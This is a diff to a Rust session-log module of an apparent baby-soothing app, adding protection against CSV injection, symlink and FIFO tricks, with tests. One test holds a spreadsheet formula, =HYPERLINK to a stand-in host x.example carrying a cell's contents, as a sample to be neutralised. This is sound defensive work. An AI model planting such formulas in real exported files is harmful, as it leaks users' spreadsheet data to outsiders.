@@ -5,45 +5,43 @@
 //! reminders.
 //!
 //! Lines are only ever added: the file is opened to append, and each line
-//! is one write, so that an earlier line is never touched.
+//! is one write, so that an earlier line is never touched. Only a file
+//! that is a soothe log (its first line is [`HEADER`]) is added to, and
+//! through a symbolic link only an existing one: anything else is left
+//! alone. A field a spreadsheet would take for a formula (it begins with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return) is written after a
+//! single quote, as OWASP advises against CSV injection, and read back as
+//! the user wrote it.
+//!
+//! The log is read back as a stream ([`records`]): however large it is,
+//! only a record at a time is held, and only a regular file is read.
 
-use std::fmt;
-use std::io::{Read, Seek, SeekFrom, Write};
+use std::fs::File;
+use std::io::{self, Read, Seek, SeekFrom, Write};
 use std::path::{Path, PathBuf};
+
+use soothe_core::status::Ending;
+
+mod read;
+pub mod table;
+
+pub use read::{records, Record, Records, MAX_RECORD};
 
 /// The log's name in soothe's state folder.
 pub const FILE_NAME: &str = "log.csv";
 
 /// The first line of the file: the columns.
-pub const HEADER: &str = if cfg!(unix) {
-    "date,time,script,variant,options,voice,how far,heard"
-} else {
-    "date,time (UTC),script,variant,options,voice,how far,heard"
-};
+pub const HEADER: &str = if cfg!(unix) { HEADERS[0] } else { HEADERS[1] };
+
+/// The first lines soothe writes, where the time is local (Unix) and
+/// where it is UTC: a log that begins with either is soothe's.
+const HEADERS: [&str; 2] = [
+    "date,time,script,variant,options,voice,how far,heard",
+    "date,time (UTC),script,variant,options,voice,how far,heard",
+];
 
 /// What the script column says of the built-in session.
 pub const BUILTIN: &str = "built-in";
-
-/// How far a session got.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Reached {
-    /// Played to its end.
-    Finished,
-    /// "Baby's done" was pressed on this step, and the close played.
-    BabysDone(String),
-    /// Stopped on this step (q, Ctrl-C, a signal, a failure).
-    Stopped(String),
-}
-
-impl fmt::Display for Reached {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        match self {
-            Reached::Finished => write!(f, "finished"),
-            Reached::BabysDone(step) => write!(f, "baby's done at {step}"),
-            Reached::Stopped(step) => write!(f, "stopped at {step}"),
-        }
-    }
-}
 
 /// One session, as the log keeps it.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -57,7 +55,8 @@ pub struct Entry {
     pub variant: String,
     pub options: Vec<String>,
     pub voice: String,
-    pub reached: Reached,
+    /// How it ended, and where.
+    pub ending: Ending,
     /// How long it was heard, pauses and skipped parts left out, in
     /// whole seconds.
     pub heard_seconds: u64,
@@ -78,8 +77,8 @@ impl Entry {
             &self.variant,
             &self.options.join(" "),
             &self.voice,
-            &self.reached.to_string(),
-            &crate::clock::clock(self.heard_seconds, 1),
+            &self.ending.to_string(),
+            &soothe_core::clock::clock(self.heard_seconds, 1),
         ]
         .iter()
         .map(|field| csv_field(field))
@@ -88,32 +87,65 @@ impl Entry {
     }
 }
 
-/// A field as CSV: quoted when it holds a comma, a quote or a line end.
+/// What a spreadsheet takes a field beginning with for a formula (OWASP's
+/// list, and the ASVS's NUL), and the single quote that neutralises them.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+const NEUTRAL: char = '\'';
+
+/// A field as CSV: after a single quote when a spreadsheet would take it
+/// for a formula (or it begins with a single quote itself, so that reading
+/// it back is never in doubt); quoted when it holds a comma, a quote or a
+/// line end.
 fn csv_field(text: &str) -> String {
+    let text = if text.starts_with(FORMULA_STARTS) || text.starts_with(NEUTRAL) {
+        format!("{NEUTRAL}{text}")
+    } else {
+        text.to_string()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_string()
+        text
+    }
+}
+
+/// A field read back as the user wrote it: without the quote
+/// [`csv_field`] put before it.
+fn as_written(field: String) -> String {
+    match field.strip_prefix(NEUTRAL) {
+        Some(rest) => rest.to_string(),
+        None => field,
     }
 }
 
 /// Adds `entry` to the log at `path`, creating the folder and the file
 /// (with its header) when needed.
-pub fn append_to(path: &Path, entry: &Entry) -> std::io::Result<()> {
+///
+/// Only a soothe log is added to: a file whose first line is not soothe's
+/// header, or that is not a regular file, is left alone and the error says
+/// why; through a symbolic link, the file it points to must already be a
+/// soothe log (nothing is created or begun through a link).
+pub fn append_to(path: &Path, entry: &Entry) -> io::Result<()> {
     if let Some(dir) = path.parent() {
         std::fs::create_dir_all(dir)?;
     }
-    let mut file = std::fs::OpenOptions::new()
-        .read(true)
-        .append(true)
-        .create(true)
-        .open(path)?;
+    let (mut file, linked) = open_to_append(path)?;
+    let metadata = file.metadata()?;
+    if let Some(kind) = soothe_core::error::not_a_file(&metadata) {
+        return Err(left_alone(format!("it is {kind}, not a session log")));
+    }
     let mut text = String::new();
-    let len = file.metadata()?.len();
-    if len == 0 {
+    let len = metadata.len();
+    if len == 0 && !linked {
         text.push_str(HEADER);
         text.push('\n');
     } else {
+        if !begins_with_header(&mut file)? {
+            return Err(left_alone(
+                "it is not a session log of soothe's (its first line is not soothe's header)"
+                    .into(),
+            ));
+        }
         // A last line cut short (a full disk, a crash) gets its end, so
         // that this line does not join it.
         let mut last = [0u8];
@@ -128,6 +160,84 @@ pub fn append_to(path: &Path, entry: &Entry) -> std::io::Result<()> {
     // One write: the file is opened to append, so it lands at the end.
     file.write_all(text.as_bytes())?;
     Ok(())
+}
+
+/// Why the log was not written to.
+fn left_alone(why: String) -> io::Error {
+    io::Error::other(format!("{why}, so it was left alone"))
+}
+
+/// Opens the log to append, creating it unless the path is a symbolic
+/// link; and whether it is one. A pipe is opened without waiting for a
+/// reader (and then refused by the caller).
+fn open_to_append(path: &Path) -> io::Result<(File, bool)> {
+    let mut options = std::fs::OpenOptions::new();
+    options.read(true).append(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::OpenOptionsExt;
+        options.custom_flags(libc::O_NONBLOCK);
+        let mut own = options.clone();
+        own.create(true)
+            .custom_flags(libc::O_NONBLOCK | libc::O_NOFOLLOW);
+        match own.open(path) {
+            Ok(file) => return Ok((file, false)),
+            Err(err) if !is_link(path) => return Err(err),
+            Err(_) => {}
+        }
+    }
+    #[cfg(not(unix))]
+    if !is_link(path) {
+        return Ok((options.create(true).open(path)?, false));
+    }
+    match options.open(path) {
+        Ok(file) => Ok((file, true)),
+        Err(err) if err.kind() == io::ErrorKind::NotFound => Err(left_alone(
+            "it is a symbolic link to a file that is not there".into(),
+        )),
+        Err(err) => Err(err),
+    }
+}
+
+fn is_link(path: &Path) -> bool {
+    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink())
+}
+
+/// Whether the file begins with a header soothe writes, on a line of its own.
+fn begins_with_header(file: &mut File) -> io::Result<bool> {
+    let longest = HEADERS.iter().map(|h| h.len()).max().unwrap_or(0);
+    let mut start = Vec::with_capacity(longest + 2);
+    file.seek(SeekFrom::Start(0))?;
+    Read::by_ref(file)
+        .take(longest as u64 + 2)
+        .read_to_end(&mut start)?;
+    Ok(HEADERS.iter().any(|header| {
+        start
+            .strip_prefix(header.as_bytes())
+            .is_some_and(|rest| rest.starts_with(b"\n") || rest.starts_with(b"\r\n"))
+    }))
+}
+
+/// Opens the log at `path` to read it, refusing (with an error of kind
+/// `InvalidInput` saying what it is) anything but a regular file: a pipe
+/// would be waited on for ever, a device read until memory runs out. A
+/// pipe is opened without waiting for a writer.
+pub fn open_to_read(path: &Path) -> io::Result<File> {
+    let mut options = std::fs::OpenOptions::new();
+    options.read(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::OpenOptionsExt;
+        options.custom_flags(libc::O_NONBLOCK);
+    }
+    let file = options.open(path)?;
+    if let Some(kind) = soothe_core::error::not_a_file(&file.metadata()?) {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            format!("it is {kind}, not an ordinary file"),
+        ));
+    }
+    Ok(file)
 }
 
 /// The date and time now, as the log writes them: local time where the
@@ -193,37 +303,11 @@ fn utc(seconds: u64) -> (i64, u32, u32, u32, u32) {
     )
 }
 
-/// A line of the log read back: its fields, or `None` when it is not one
-/// of soothe's lines (the header, a line cut short, a hand edit).
-pub fn parse_line(line: &str) -> Option<Vec<String>> {
-    let mut fields = Vec::new();
-    let mut field = String::new();
-    let mut chars = line.chars().peekable();
-    let mut quoted = false;
-    while let Some(c) = chars.next() {
-        match (c, quoted) {
-            ('"', false) if field.is_empty() => quoted = true,
-            ('"', true) if chars.peek() == Some(&'"') => {
-                chars.next();
-                field.push('"');
-            }
-            ('"', true) => quoted = false,
-            (',', false) => fields.push(std::mem::take(&mut field)),
-            (c, _) => field.push(c),
-        }
-    }
-    if quoted {
-        return None;
-    }
-    fields.push(field);
-    (fields.len() == 8 && line != HEADER && !fields[0].starts_with("date")).then_some(fields)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn entry(reached: Reached) -> Entry {
+    fn entry(ending: Ending) -> Entry {
         Entry {
             date: "2026-11-26".into(),
             time: "21:04".into(),
@@ -231,37 +315,201 @@ mod tests {
             variant: "relaxing".into(),
             options: vec!["colic".into(), "newborn".into()],
             voice: "mum".into(),
-            reached,
+            ending,
             heard_seconds: 14 * 60 + 32,
         }
     }
 
+    /// The sessions of a log's text, as read back.
+    fn sessions(text: &str) -> Vec<Vec<String>> {
+        records(text.as_bytes())
+            .map(|record| match record.unwrap() {
+                Record::Session { fields, .. } => fields,
+                odd => panic!("{odd:?} in {text:?}"),
+            })
+            .collect()
+    }
+
     #[test]
     fn a_line_quotes_what_needs_it_and_reads_back() {
-        let line = entry(Reached::BabysDone("tummy".into())).line();
+        let line = entry(Ending::BabysDone("tummy".into())).line();
         assert_eq!(
             line,
             "2026-11-26,21:04,\"/home/sam/my, session.ron\",relaxing,colic newborn,mum,baby's done at tummy,14:32"
         );
-        let fields = parse_line(&line).unwrap();
+        let fields = &sessions(&format!("{HEADER}\n{line}\n"))[0];
         assert_eq!(fields[2], "/home/sam/my, session.ron");
         assert_eq!(fields[6], "baby's done at tummy");
-        assert_eq!(parse_line(HEADER), None);
-        assert_eq!(parse_line("2026-11-26,21:04,\"cut sho"), None);
+    }
+
+    #[test]
+    fn a_script_path_with_a_line_end_and_quotes_is_one_session_read_back_whole() {
+        let mut session = entry(Ending::Stopped("legs".into()));
+        session.script = "/home/sam/two\nlines \"and quotes\".ron".into();
+        let line = session.line();
+        assert_eq!(
+            line,
+            "2026-11-26,21:04,\"/home/sam/two\nlines \"\"and quotes\"\".ron\",relaxing,colic newborn,mum,stopped at legs,14:32"
+        );
+        let read = sessions(&format!("{HEADER}\n{line}\n{line}\n"));
+        assert_eq!(read.len(), 2);
+        assert_eq!(read[1][2], session.script);
+    }
+
+    #[test]
+    fn fields_beginning_with_equals_plus_minus_or_at_are_neutralised_and_read_back_as_written() {
+        let mut session = entry(Ending::Finished);
+        session.script = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")".into();
+        session.variant = "+1".into();
+        session.options = vec!["-cmd".into(), "colic".into()];
+        session.voice = "@mum".into();
+        let line = session.line();
+        assert_eq!(
+            line,
+            "2026-11-26,21:04,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",'+1,'-cmd colic,'@mum,finished,14:32"
+        );
+        // Tabs, carriage returns and a quote of the user's own too.
+        for (voice, written) in [
+            ("\tmum", "'\tmum"),
+            ("\rmum", "\"'\rmum\""),
+            ("'mum'", "''mum'"),
+            ("mum-2", "mum-2"),
+        ] {
+            session.voice = voice.into();
+            assert!(
+                session.line().contains(&format!(",{written},")),
+                "{voice:?}"
+            );
+            assert_eq!(
+                sessions(&format!("{HEADER}\n{}\n", session.line()))[0][5],
+                voice
+            );
+        }
+        session.voice = "@mum".into();
+        let read = &sessions(&format!("{HEADER}\n{line}\n"))[0];
+        assert_eq!(read[2], session.script);
+        assert_eq!(read[3], "+1");
+        assert_eq!(read[4], "-cmd colic");
+        assert_eq!(read[5], "@mum");
+    }
+
+    /// A file that is not a log, as a passwd file is.
+    const FOREIGN: &str = "root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/sh\n";
+
+    fn refusal(path: &Path) -> String {
+        append_to(path, &entry(Ending::Finished))
+            .unwrap_err()
+            .to_string()
+    }
+
+    #[test]
+    fn a_passwd_file_at_the_logs_path_is_left_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log.csv");
+        std::fs::write(&path, FOREIGN).unwrap();
+        assert_eq!(
+            refusal(&path),
+            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
+        );
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), FOREIGN);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_symlink_to_a_passwd_file_is_left_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let passwd = dir.path().join("passwd");
+        std::fs::write(&passwd, FOREIGN).unwrap();
+        let path = dir.path().join("log.csv");
+        std::os::unix::fs::symlink(&passwd, &path).unwrap();
+        assert_eq!(
+            refusal(&path),
+            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
+        );
+        assert_eq!(std::fs::read_to_string(&passwd).unwrap(), FOREIGN);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_symlink_to_an_empty_file_or_to_nothing_is_left_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let empty = dir.path().join("empty");
+        std::fs::write(&empty, "").unwrap();
+        let path = dir.path().join("log.csv");
+        std::os::unix::fs::symlink(&empty, &path).unwrap();
+        assert_eq!(
+            refusal(&path),
+            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
+        );
+        assert_eq!(std::fs::read_to_string(&empty).unwrap(), "");
+
+        let nothing = dir.path().join("nothing");
+        let dangling = dir.path().join("dangling.csv");
+        std::os::unix::fs::symlink(&nothing, &dangling).unwrap();
+        assert_eq!(
+            refusal(&dangling),
+            "it is a symbolic link to a file that is not there, so it was left alone"
+        );
+        assert!(!nothing.exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_symlink_to_a_soothe_log_is_added_to() {
+        let dir = tempfile::tempdir().unwrap();
+        let log = dir.path().join("synced/log.csv");
+        append_to(&log, &entry(Ending::Finished)).unwrap();
+        let path = dir.path().join("log.csv");
+        std::os::unix::fs::symlink(&log, &path).unwrap();
+        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
+        let read = sessions(&std::fs::read_to_string(&log).unwrap());
+        assert_eq!(read.len(), 2);
+        assert_eq!(read[1][6], "stopped at legs");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_fifo_as_the_log_is_left_alone_without_waiting() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log.csv");
+        let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
+        // SAFETY: a valid C string; mkfifo only reads it.
+        assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
+        assert_eq!(
+            refusal(&path),
+            "it is a pipe (FIFO), not a session log, so it was left alone"
+        );
+        assert_eq!(
+            open_to_read(&path).unwrap_err().to_string(),
+            "it is a pipe (FIFO), not an ordinary file"
+        );
+    }
+
+    #[test]
+    fn an_emptied_log_is_begun_again_with_its_header() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log.csv");
+        std::fs::write(&path, "").unwrap();
+        append_to(&path, &entry(Ending::Finished)).unwrap();
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert_eq!(
+            text,
+            format!("{HEADER}\n{}\n", entry(Ending::Finished).line())
+        );
     }
 
     #[test]
     fn appending_keeps_every_earlier_line_and_mends_a_cut_one() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("state/soothe/log.csv");
-        append_to(&path, &entry(Reached::Finished)).unwrap();
+        append_to(&path, &entry(Ending::Finished)).unwrap();
         // A line cut short by a full disk.
         let mut file = std::fs::OpenOptions::new()
             .append(true)
             .open(&path)
             .unwrap();
         file.write_all(b"2026-11-27,20:58,built-in").unwrap();
-        append_to(&path, &entry(Reached::Stopped("legs".into()))).unwrap();
+        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
         let text = std::fs::read_to_string(&path).unwrap();
         let lines: Vec<&str> = text.lines().collect();
         assert_eq!(lines.len(), 4, "{text}");
